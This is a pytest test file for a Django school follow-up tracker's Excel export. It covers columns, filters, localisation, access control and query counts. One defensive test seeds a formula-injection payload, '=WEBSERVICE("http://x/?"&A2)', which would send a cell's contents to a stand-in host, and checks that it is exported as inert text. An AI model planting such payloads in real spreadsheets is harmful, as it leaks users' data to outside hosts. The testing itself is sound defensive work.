import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from kombel.followups.enums import ItemStatus
from kombel.schools.enums import Role
from tests.clock import clock_today
from tests.factories import ActionItemFactory, MembershipFactory, SchoolFactory, UserFactory
from tests.spreadsheets import FORMULA_NAME, formulas, text_cells_with

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

pytestmark = pytest.mark.clock
HEADER = [
    "Description",
    "Owner",
    "Due date",
    "Status",
    "Overdue",
    "Done on",
    "Note",
    "Source",
    "Created",
]


def _sheet(response):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(response.content)).active


def _rows(sheet):  # type: ignore[no-untyped-def]
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_export_has_the_header_and_every_filtered_row(client, school, teacher, facilitator):
    late = ActionItemFactory(
        school=school,
        owner=teacher,
        description="Uji coba PjBL di VII-A",
        due_date=(clock_today() - datetime.timedelta(days=1)),
        source_label="Lokakarya 1",
        status_note="Menunggu jadwal",
    )
    ActionItemFactory(school=school, owner=facilitator)
    client.force_login(facilitator)
    response = client.get(f"/s/{school.npsn}/followups/export.xlsx", {"owner": str(teacher.pk)})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"] == (
        f'attachment; filename="tindak-lanjut-{school.npsn}-{clock_today().isoformat()}.xlsx"'
    )
    sheet = _sheet(response)
    created = timezone.localdate(late.created_at)
    assert _rows(sheet) == [
        HEADER,
        [
            "Uji coba PjBL di VII-A",
            "Siti Rahma",
            datetime.datetime.combine(
                (clock_today() - datetime.timedelta(days=1)), datetime.time()
            ),
            "Open",
            "yes",
            None,
            "Menunggu jadwal",
            "Lokakarya 1",
            datetime.datetime.combine(created, datetime.time()),
        ],
    ]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold is True
    assert sheet["C2"].is_date is True


def test_export_shows_done_on_and_ignores_the_page(client, school, teacher, facilitator):
    done_at = timezone.now() - datetime.timedelta(days=2)
    ActionItemFactory(school=school, owner=teacher, status=ItemStatus.DONE, completed_at=done_at)
    for _ in range(55):  # more than one page of the list
        ActionItemFactory(school=school, owner=facilitator)
    client.force_login(facilitator)
    response = client.get(
        f"/s/{school.npsn}/followups/export.xlsx", {"status": "done", "page": "2"}
    )
    rows = _rows(_sheet(response))
    assert [(r[1], r[3], r[4], r[5]) for r in rows[1:]] == [
        (
            "Siti Rahma",
            "Done",
            "no",
            datetime.datetime.combine(timezone.localdate(done_at), datetime.time()),
        )
    ]
    everything = _rows(_sheet(client.get(f"/s/{school.npsn}/followups/export.xlsx")))
    assert len(everything) == 1 + 56


def test_export_headers_follow_the_language(client, school, facilitator):
    ActionItemFactory(school=school, owner=facilitator)
    client.force_login(facilitator)
    response = client.get(f"/s/{school.npsn}/followups/export.xlsx", HTTP_ACCEPT_LANGUAGE="id")
    header = _rows(_sheet(response))[0]
    assert header[:2] == ["Deskripsi", "Penanggung jawab"]


def test_list_links_to_the_export_with_its_filters(client, school, teacher, facilitator):
    client.force_login(facilitator)
    response = client.get(f"/s/{school.npsn}/followups/", {"status": "open", "page": "1"})
    assert f'href="/s/{school.npsn}/followups/export.xlsx?status=open"' in response.content.decode()


def test_export_is_403_for_a_teacher(client, school, teacher):
    client.force_login(teacher)
    assert client.get(f"/s/{school.npsn}/followups/export.xlsx").status_code == 403


def test_export_of_another_school_is_404(client, school, facilitator):
    charlie = UserFactory(full_name="Charlie")
    MembershipFactory(user=charlie, school=SchoolFactory(), role=Role.PRINCIPAL)
    ActionItemFactory(school=school, owner=facilitator)
    client.force_login(charlie)
    assert client.get(f"/s/{school.npsn}/followups/export.xlsx").status_code == 404


def _export_queries(client, django_assert_num_queries, school, facilitator, n):  # type: ignore[no-untyped-def]
    owners = [facilitator] + [UserFactory() for _ in range(n)]
    for owner in owners[1:]:
        MembershipFactory(user=owner, school=school, role=Role.TEACHER)
    for i in range(n * 3):
        ActionItemFactory(school=school, owner=owners[i % len(owners)], source_type=f"s.{i % n}")
    client.force_login(facilitator)
    client.get(f"/s/{school.npsn}/followups/")  # warm the session
    with django_assert_num_queries(4):
        response = client.get(f"/s/{school.npsn}/followups/export.xlsx", {"overdue": ""})
    assert len(_rows(_sheet(response))) == 1 + n * 3


def test_export_query_count_small(client, django_assert_num_queries, school, facilitator):
    _export_queries(client, django_assert_num_queries, school, facilitator, 2)


def test_export_query_count_large(client, django_assert_num_queries, school, facilitator):
    _export_queries(client, django_assert_num_queries, school, facilitator, 12)


def test_export_writes_names_and_descriptions_as_text_never_formulas(
    client, school, teacher, facilitator
):
    teacher.full_name = FORMULA_NAME
    teacher.save()
    ActionItemFactory(
        school=school,
        owner=teacher,
        description='=WEBSERVICE("http://x/?"&A2)',
        status_note="@SUM(1)",
        source_label="-2+3",
    )
    client.force_login(facilitator)
    body = client.get(f"/s/{school.npsn}/followups/export.xlsx").content
    assert formulas(body) == []
    row = _rows(_sheet_of(body))[1]
    assert (row[0], row[1], row[6], row[7]) == (
        '=WEBSERVICE("http://x/?"&A2)',
        FORMULA_NAME,
        "@SUM(1)",
        "-2+3",
    )
    assert text_cells_with(body, FORMULA_NAME) == ["Follow-ups!B2"]


def _sheet_of(body):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(body)).active
